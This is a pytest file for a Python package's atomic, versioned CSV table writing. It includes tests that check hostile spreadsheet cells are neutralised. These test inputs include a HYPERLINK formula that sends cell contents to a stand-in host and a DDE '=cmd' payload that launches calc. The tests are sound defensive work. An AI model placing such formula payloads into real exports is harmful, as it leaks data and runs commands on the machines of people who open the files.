"""Atomic, versioned table writing."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from newskit.io.tables import meta_path, neutralise_formulas, read_table, restore_formulas, write_atomic, write_table


def test_write_and_read_round_trip(tmp_path):
    frame = pd.DataFrame({"term": ["マスク", "xAI", "#tag, with comma"], "count": [3, 2, 1]})
    path = write_table(frame, tmp_path / "sub" / "terms.csv", "test table")
    back = read_table(path)
    assert back.equals(frame)  # quotes, commas, '#' and Japanese survive
    meta = json.loads(meta_path(path).read_text("utf-8"))
    assert meta["rows"] == 3 and meta["columns"] == ["term", "count"]
    assert "fugashi" in meta["versions"] and back.attrs["versions"] == meta["versions"]


def test_write_is_deterministic(tmp_path):
    frame = pd.DataFrame({"a": [1.5, 2.25]})
    first = write_table(frame, tmp_path / "a.csv").read_bytes() + meta_path(tmp_path / "a.csv").read_bytes()
    second = write_table(frame, tmp_path / "a.csv").read_bytes() + meta_path(tmp_path / "a.csv").read_bytes()
    assert first == second


def test_failed_write_leaves_no_temp_file(tmp_path):
    class Boom(bytes):
        pass

    target = tmp_path / "x.csv"
    write_atomic(target, b"old")
    with pytest.raises(TypeError):
        write_atomic(target, "not bytes")  # type: ignore[arg-type]
    assert target.read_bytes() == b"old"  # the old file is intact
    assert [p.name for p in tmp_path.iterdir()] == ["x.csv"]  # no temp file left behind


@pytest.mark.parametrize(
    "name, sidecar",
    [
        ("tokens.csv", "tokens.meta.json"),          # plain table
        ("02-top-terms.csv", "02-top-terms.meta.json"),  # notebook-prefixed table
    ],
)
def test_meta_path(tmp_path, name, sidecar):
    assert meta_path(tmp_path / name).name == sidecar


def test_errors_name_the_table_not_the_temporary_file(tmp_path):
    # os.replace onto a folder fails; the error used to name the hidden temp file
    (tmp_path / "terms.csv").mkdir()
    (tmp_path / "terms.csv" / "keep").write_text("x")
    with pytest.raises(OSError) as info:
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "terms.csv")
    assert info.value.filename == str(tmp_path / "terms.csv")
    assert ".tmp" not in str(info.value) and "terms.csv" in str(info.value)
    assert [p.name for p in tmp_path.iterdir()] == ["terms.csv"]  # no temp file left


def test_unwritable_folder_names_the_table(tmp_path, monkeypatch):
    import tempfile

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied", str(tmp_path / ".terms.csv.x1y2.tmp"))

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(PermissionError) as info:
        write_atomic(tmp_path / "terms.csv", b"a\n")
    assert info.value.filename == str(tmp_path / "terms.csv") and ".tmp" not in str(info.value)


# --- formula injection (issue 10, item 4) ------------------------------------------

HOSTILE_CELLS = [
    ('=HYPERLINK("http://x.example/?"&A1,"click")', True),  # a formula
    ("+1+2", True),             # + starts a formula
    ("-2+3", True),             # so does - (not a number: 2+3 follows)
    ("@SUM(A1:A9)", True),      # @ (Lotus-style functions)
    ("\tpadded", True),         # tab, per OWASP
    ("'quoted", True),          # a leading quote gets one more, so reading back is exact
    ("-nya", True),             # harmless text starting with - is quoted too
    ("-3.5", False),            # a number written as text stays as it is
    ("+49", False),             # so does a signed integer
    ("Grok = xAI", False),      # = inside the text is no formula
    ("マスク", False),           # ordinary text
]


def test_spreadsheet_safe_tables_quote_formulas(tmp_path):
    frame = pd.DataFrame({"title": [cell for cell, _ in HOSTILE_CELLS], "value": [-3.5] * len(HOSTILE_CELLS)})
    path = write_table(frame, tmp_path / "titles.csv", spreadsheet_safe=True)
    import csv

    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for (cell, quoted), row in zip(HOSTILE_CELLS, rows[1:], strict=True):
        assert row[0] == ("'" + cell if quoted else cell), cell
        assert row[1] == "-3.5"  # numbers stay numbers
    assert json.loads(meta_path(path).read_text("utf-8"))["spreadsheet_safe"] is True
    back = read_table(path)
    pd.testing.assert_frame_equal(back, frame)  # read_table removes exactly the added quotes


def test_spreadsheet_safe_covers_names_and_categories(tmp_path):
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": pd.Categorical(["=1+1", "ok"]), "n": [1, 2]})
    path = write_table(frame, tmp_path / "t.csv", spreadsheet_safe=True)
    header, first = path.read_text("utf-8").splitlines()[:2]
    assert header.startswith("'=cmd") and first.startswith("'=1+1")
    assert list(read_table(path).columns) == list(frame.columns)


def test_carriage_return_starts_are_quoted_too():
    # OWASP lists CR beside tab (checked on the frame: a bare CR inside a CSV cell is a line end to
    # csv readers, which cells made from normalised article text never contain)
    quoted = neutralise_formulas(pd.DataFrame({"t": ["\rx", "x\r"]}))
    assert quoted["t"].tolist() == ["'\rx", "x\r"]
    assert restore_formulas(quoted)["t"].tolist() == ["\rx", "x\r"]


def test_plain_tables_are_written_as_they_are(tmp_path):
    # write_table's default writes the cells verbatim (library tables, not for spreadsheets)
    path = write_table(pd.DataFrame({"t": ["=1+1"]}), tmp_path / "t.csv")
    assert path.read_text("utf-8").splitlines()[1] == "=1+1"
